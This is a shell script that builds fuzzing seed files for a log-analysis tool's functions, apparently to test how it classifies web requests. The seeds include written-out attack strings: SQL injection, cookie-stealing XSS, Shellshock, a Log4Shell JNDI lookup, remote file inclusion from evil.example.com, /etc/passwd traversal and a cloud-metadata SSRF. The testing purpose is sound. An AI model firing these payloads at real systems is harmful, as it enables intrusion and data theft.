#!/bin/sh
# Rebuilds the seeds of the functions' fuzz target (tests/fuzz/funcs/corpus/): one file per
# operation of tests/fuzz/fuzz_funcs.c, an operation byte then arguments separated by 0x01,
# from the function tests' own cases (attack URIs, scanner user agents, issue 12's values).
#   sh tests/fuzz/funcs/make_corpus.sh        (from the repository's top)
set -eu
OUT=tests/fuzz/funcs/corpus
rm -rf "$OUT"; mkdir -p "$OUT"
n=0
# seed OP ARG... : the operation's digit, then its arguments
seed() {
  op=$1; shift
  n=$((n + 1))
  { printf '%s' "$op"; first=1
    for arg in "$@"; do [ $first = 1 ] || printf '\001'; first=0; printf '%s' "$arg"; done
  } > "$OUT/$(printf '%02d' $n)-op$op"
}
seed 0 'GET /index.php' '^GET '
seed 0 'caf\351' '^caf.$'
seed 0 'aaaaaaaaaaaaaaaaaaaaaaaaab' '(a+)+$'
seed 1 'k=v' '(?<key>\w+)=(?<val>\w+)' 'val'
seed 1 '/p.php?id=42&x=7' '[?&](\w+)=(\d+)' '2'
seed 2 'a1b22c333' '\d+' '#'
seed 2 'a=1&b=2' '(\w+)=(\w+)' '$2=$1'
seed 2 'ab cd' '\b' '|'
seed 2 'aaaa' '[0-9]*' 'x'
seed 2 'x\r\ny\r\n' '(*CRLF)$' '-'
seed 3 "/index.php?id=1' OR '1'='1"
seed 3 '/item.php?id=-1%20UNION%2F%2A%2A%2FSELECT%201'
seed 3 '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'
seed 3 '/cgi-bin/status?x=() { :;}; echo; /usr/bin/id'
seed 3 '/x?q=${jndi:ldap://198.51.100.7/a}'
seed 3 '/index.php?page=http://evil.example.com/shell.txt?'
seed 3 '/index.php?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd%00'
seed 3 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'
seed 3 '/search?q================================================================'
seed 3 'union/**/union/**/union/**/union/**/union/**/union/**/select 1'
seed 4 'sqlmap/1.4.7#stable (http://sqlmap.org)' '(*COMMIT)zzz'
seed 4 'aaaaaaaaaaaaaaaaaaaaaaaab' '(a+)+$'
seed 4 'x; yz' 'x;\s*yz|q(?=r)'
seed 4 '/fetch?url=http://169.254.169.254/' '//169\.254\.169\.254/'
seed 4 'Acme Scan/1' '(?x) acme \s scan # a comment'
seed 5 '/a%20b+c%u00e9%uD83D%uDE00%zz%'
seed 5 '%252e%252e%252f'
seed 6 '1331901234.5' '300'
seed 6 '2012-03-16T12:30:00.009999Z' '1 hour'
seed 6 '-1' '5 minutes'
seed 7 'i404,i200,i404,r404.0,tab,tab,b\377'
seed 7 'i1,r1.5,r1.5,tx,i1'
# op 8: the options after zeek(LOG, ...); B's first byte picks LOG (mod 3: 'c' the TSV log,
# 'a' the JSON one, 'b' the headerless one)
seed 8 "schema='http'" 'b'
seed 8 "group='id_orig_h status_code', bucket='1 hour'" 'c'
seed 8 'strict=1, max_line=64' 'a'
seed 8 "fields='ts uid id.orig_h id.orig_p id.resp_h id.resp_p', threads=3" 'b'
seed 8 "group='user_agent', bucket='1 minute', group_memory=65536" 'a'
seed 8 "schema='http_all', unknown='x'" 'c'
echo "$n seeds in $OUT"
